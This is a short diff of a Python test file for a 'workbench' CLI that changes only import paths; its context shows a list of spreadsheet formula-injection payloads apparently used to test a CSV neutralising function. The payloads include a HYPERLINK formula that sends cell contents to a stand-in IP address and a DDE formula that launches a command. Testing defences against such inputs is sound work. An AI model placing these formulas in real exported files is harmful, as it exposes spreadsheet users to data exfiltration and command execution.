@@ -11,8 +11,8 @@ from click.testing import CliRunner
 
 from workbench.cli import main
 from workbench.exceptions import InputError
-from workbench.export import export_csv, neutralise
-from workbench.pipeline import run_process
+from workbench.records.export import export_csv, neutralise
+from workbench.pipeline.run import run_process
 
 FORMULAS = ["=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
             "=cmd|' /C calc'!A0"]
